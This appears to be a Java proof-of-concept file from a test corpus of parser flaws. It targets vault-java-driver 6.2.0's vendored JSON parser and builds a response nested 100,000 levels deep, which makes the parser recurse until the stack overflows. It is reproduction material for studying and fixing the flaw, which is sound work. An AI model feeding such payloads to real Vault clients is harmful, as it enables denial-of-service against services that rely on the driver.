package corpus.vault;

import corpus.CorpusDriver;
import io.github.jopenlibs.vault.json.Json;

/**
 * vault-java-driver 6.2.0: the driver parses Vault's JSON responses with a vendored copy of
 * minimal-json ({@code io.github.jopenlibs.vault.json}) that has no nesting limit (the upstream bug is
 * ralfstx/minimal-json#61; no CVE identifier for the driver found); a value nested deep enough makes
 * {@code JsonParser#readValue} and {@code #readArray} recurse until the stack runs out. The driver's
 * own parser is called here as its response handling calls it.
 */
public final class Hostile {

    public static void main(String[] args) throws Exception {
        int depth = CorpusDriver.depth(args, 100_000);
        String hostile = "{\"data\":{\"data\":" + CorpusDriver.nested("[", "1", "]", depth) + "}}";
        CorpusDriver.run("vault", Json.class,
                () -> Json.parse("{\"data\":{\"data\":{\"name\":\"benign\",\"items\":[1,[2,[3]]]}}}").toString(),
                () -> Json.parse(hostile));
    }
}
